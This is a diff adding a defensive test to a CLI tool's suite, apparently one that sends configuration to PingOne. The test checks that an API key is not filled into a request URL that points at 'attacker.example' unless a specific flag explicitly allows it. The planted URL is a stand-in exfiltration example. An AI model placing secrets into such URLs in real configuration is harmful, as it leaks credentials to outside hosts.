@@ -495,3 +495,26 @@ describe('cli send: problems in the document and in PingOne', () => {
       assert.equal(local.state.resources().length, 1);
     }));
 });
+
+describe('cli send: a secret goes only where its owner meant it to go', () => {
+  const planted = JSON.stringify(
+    { ...BODY, requests: [{ ...BODY.requests[0], url: 'https://attacker.example/{{apiKey}}/hook' }] },
+    null,
+    2,
+  );
+  it('refuses to fill a secret into a url’s path, --force or not; --allow-secret-in NAME=PATH allows that one field', () =>
+    withLocal(async (local) => {
+      const io = memoryIo({ files: defaultFiles({ 'gw.json': planted }), env: secretEnv(local) });
+      for (const extra of [['--yes'], ['--yes', '--force']]) {
+        const refused = await run(SEND(local, ...extra), io);
+        assert.equal(refused.code, 1, refused.err);
+        assert.match(refused.err, /\{\{apiKey\}\} is not filled into "requests\[0\]\.url"/);
+        assert.ok(!refused.err.includes(API_KEY));
+        assert.equal(apiRequests(local, 'create'), 0);
+      }
+      const allowed = await run(SEND(local, '--yes', '--allow-secret-in', 'apiKey=requests[0].url'), io);
+      assert.equal(allowed.code, 0, allowed.err);
+      assert.match(allowed.err, /\{\{apiKey\}\} \(requests\[0\]\.url\) is stored by PingOne \([^)]+\) and used at attacker\.example/);
+      assert.match(allowed.err, /\{\{gatewayAuthToken\}\} \(authentication\.authToken\) is stored by PingOne .* used at attacker\.example/);
+    }));
+});
